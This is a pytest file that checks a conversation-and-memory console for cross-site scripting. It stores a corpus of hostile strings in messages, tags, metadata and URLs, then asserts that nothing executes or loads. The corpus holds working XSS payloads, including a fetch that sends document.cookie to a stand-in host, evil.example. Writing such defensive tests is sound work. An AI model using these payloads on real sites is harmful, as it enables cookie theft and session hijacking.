"""Whatever is stored is only ever shown: nothing of it runs, loads, leaves, or takes the page over."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

from .conftest import Tab
from .server import Client

SCRIPT = "window.__ran=1;fetch('https://evil.example/'+document.cookie)"
CORPUS = (
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    "<iframe src='javascript:parent.__ran=1'></iframe><iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/a.css><style>@import 'https://evil.example/b.css';*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=key autofocus onfocus=window.__ran=1><button>Go</button></form>",
    "<math><mi//xlink:href='data:x,<script>window.__ran=1</script>'>",
    "<video autoplay><source onerror=window.__ran=1 src=https://evil.example/v></video>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "![pixel](https://evil.example/pixel.png) ![x](javascript:window.__ran=1) ![](//evil.example/p.png)",
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9fcmFuPTEiLz4=)",
    "![a](data:text/html,<script>window.__ran=1</script>)",
    "[click](javascript:window.__ran=1) [b](JaVaScRiPt:window.__ran=1) [c](java\nscript:window.__ran=1)",
    "[d](&#106;avascript:window.__ran=1) [e](data:text/html,<script>window.__ran=1</script>) [f](vbscript:x)",
    "[g](blob:https://evil.example/1) [h](file:///etc/passwd) [i](#/manage) [j](../docs) <javascript:window.__ran=1>",
    '[k]: javascript:window.__ran=1\n\n[k] and [l](https://evil.example/"onmouseover="window.__ran=1)',
    "```html\n<script>window.__ran=1</script>\n```\n\n`<img src=x onerror=window.__ran=1>`",
    '```" onload="window.__ran=1\nx\n```',
    "| <img src=x onerror=window.__ran=1> | b |\n| --- | --- |\n| <script>window.__ran=1</script> | [x](javascript:1) |",
    "&lt;script&gt;window.__ran=1&lt;/script&gt; &#60;img src=x onerror=window.__ran=1&#62;",
    "</textarea></script></style></title><script>window.__ran=1</script>",
    "{{constructor.constructor('window.__ran=1')()}} ${window.__ran=1} <%= 1 %>",
    "\u202egnp.exe \u2066hidden\u2069 \u0000 \ufeff\u200b",
    ">" * 3000 + " deep",
    "- " * 2000 + "deep",
    "[" * 3000 + "](" * 100,
    "*_" * 4000,
    "x" * 5000,
    "__proto__",
)
STRINGS = [text.replace("\u0000", "") for text in CORPUS]


def blocks(text: str) -> list[Any]:
    """Return contents of every shape that the console knows, with a hostile text in each of their fields."""
    return [
        text,
        {"type": text, text[:60]: text},
        [
            {"type": "text", "text": text},
            {"type": text, "text": text},
            {"type": "thinking", "thinking": text},
        ],
        [{"type": "tool_use", "id": text, "name": text, "input": {text[:60]: text}}],
        [
            {
                "type": "tool_result",
                "tool_use_id": text,
                "is_error": True,
                "content": [{"type": "text", "text": text}],
            }
        ],
        [
            {"type": "image", "source": {"type": "url", "url": text}},
            {"type": "image_url", "image_url": {"url": text}},
        ],
        [{"type": "image", "source": {"type": "base64", "media_type": text, "data": text}}],
        [
            {"type": "file", "mediaType": "image/svg+xml", "url": text},
            {"type": "tool-" + text, "input": text},
        ],
        {
            "tool_calls": [{"id": text, "function": {"name": text, "arguments": text}}],
            "refusal": text,
            "content": text,
        },
        [
            {"functionCall": {"name": text, "args": text}},
            {"functionResponse": {"name": text, "response": text}},
        ],
        [
            {"type": None},
            {"type": []},
            {"tool_calls": text},
            {"parts": [text]},
            {"toolCallId": {}, "type": "tool-call"},
        ],
    ]


GROUP = 6
"""Texts whose contents stand in one dialogue, since a page takes longer to open than to show."""
GROUPS = range(0, len(STRINGS), GROUP)


def named(text: str) -> str:
    """Return as much of a text as a tag, a name or a namespace may hold."""
    return text[:60].strip().replace("\n", " ") or "x"


def message(place: int, text: str, content: Any) -> dict[str, Any]:
    """Return a message with a hostile name, tag and content."""
    role = ("user", "assistant", "tool", "system")[place % 4]
    return {"id": f"h{place}", "role": role, "name": named(text), "tags": [named(text)], "content": content}


@pytest.fixture(scope="module")
def hostile(server: Any) -> None:
    """Store the corpus in every field that is shown."""
    client = Client(server, server.keys["full"])
    for number, text in enumerate(STRINGS):
        common = {
            "id": f"hostile-{number}",
            "label": text[:128],
            "tags": [named(text)],
            "metadata": {"a": text, named(text): {"b": [text]}},
            "namespace": named(text),
        }
        state = {"a": text, text[:100]: {text[:50]: [text]}}
        client.ask("POST", "/dialogue", common | {"state": state, "message": message(0, text, text)})
        client.ask("POST", "/memory", common | {"value": {"a": text}, "description": text[:1000]})
    for start in GROUPS:
        client.ask("POST", "/dialogue", {"id": f"hostile-group-{start}"})
        pairs = [(text, content) for text in STRINGS[start : start + GROUP] for content in blocks(text)]
        made = [message(place, *pair) for place, pair in enumerate(pairs)]
        for first in range(0, len(made), 25):
            client.ask("POST", f"/messages?dialogueId=hostile-group-{start}", made[first : first + 25])


def assert_untouched(tab: Tab) -> None:
    """Nothing has run, and no element is there that the console does not make."""
    page = tab.page
    tab.settle()
    assert page.evaluate("window.__ran") is None
    made = page.evaluate(
        "[...document.querySelectorAll('script, style, iframe, object, embed, form[action], base, meta[http-equiv],"
        " video, audio, animate, math, foreignObject')].map((e) => e.outerHTML)"
    )
    assert [element for element in made if "theme.js" not in element and "main.js" not in element] == []
    listening = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))"
    )
    assert listening == []
    links = set(page.evaluate("[...document.querySelectorAll('a')].map((a) => new URL(a.href).protocol)"))
    assert links <= {"http:", "https:", "mailto:"}
    images = set(page.evaluate("[...document.querySelectorAll('img')].map((i) => i.src.slice(0, 15))"))
    assert all(source.startswith("data:image/") and "svg" not in source for source in images)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("start", GROUPS)
def test_hostile_messages_are_only_shown(tab: Tab, start: int) -> None:
    """Contents of every shape, with the text in each of their fields, stay text, unfolded and in a context."""
    tab.expected = {"400"}  # where a text is longer than the budget of the context
    page = tab.open(f"#/dialogue/hostile-group-{start}?panel=context")
    page.locator("#message-h0").wait_for()
    page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
    assert_untouched(tab)
    page.get_by_label("Format").select_option("openai")
    assert_untouched(tab)
    page.get_by_role("tab", name="Summaries").click()
    page.get_by_role("button", name="Summarise now").click()
    page.locator(".card.summary").first.wait_for()
    assert_untouched(tab)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("start", GROUPS)
def test_hostile_fields_are_only_shown(tab: Tab, start: int) -> None:
    """Titles, tags, namespaces, names, metadata and state are text, to read and to edit; so are memories."""
    page = tab.open()
    for number in range(start, min(start + GROUP, len(STRINGS))):
        place = f"hostile-{number}?namespace=" + quote(named(STRINGS[number]), safe="")
        page.evaluate("(to) => (location.hash = to)", f"#/dialogue/{place}&panel=state")
        page.get_by_role("button", name="Change the state").click()
        page.locator("#message-h0").wait_for()
        assert_untouched(tab)
        page.get_by_role("tab", name="Details").click()
        assert_untouched(tab)
        page.evaluate("(to) => (location.hash = to)", f"#/memory/{place}")
        page.get_by_role("region", name="Value").wait_for()
        assert_untouched(tab)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize(
    "address",
    [
        "#/",
        "#/dialogues",
        "#/memories",
        "#/search?q=evil&in=dialogue",
        "#/search?q=evil",
        "#/search?q=evil&in=memory",
    ],
)
def test_hostile_lists_are_only_shown(tab: Tab, address: str) -> None:
    """Lists and searches show titles, namespaces, tags and excerpts as text."""
    tab.open(address)
    assert_untouched(tab)


@pytest.mark.parametrize(
    "address",
    [
        "#/<img src=x onerror=window.__ran=1>",
        '#/dialogues?namespace=<script>window.__ran=1</script>&tags="><img src=x onerror=window.__ran=1>',
        "#/search?q=<svg onload=window.__ran=1>&in=<b>",
        "#/dialogue/%3Cscript%3Ewindow.__ran=1%3C/script%3E?panel=<b>&message=<i>",
        "#/dialogue/%E0%A4%A?namespace=%00",
        "#javascript:window.__ran=1",
    ],
)
def test_hostile_addresses_are_only_read(open_tab: Callable[..., Tab], address: str) -> None:
    """A link that somebody made to the console cannot run anything in it."""
    tab = open_tab()
    tab.expected = {"400", "404"}
    tab.open(address)
    assert_untouched(tab)
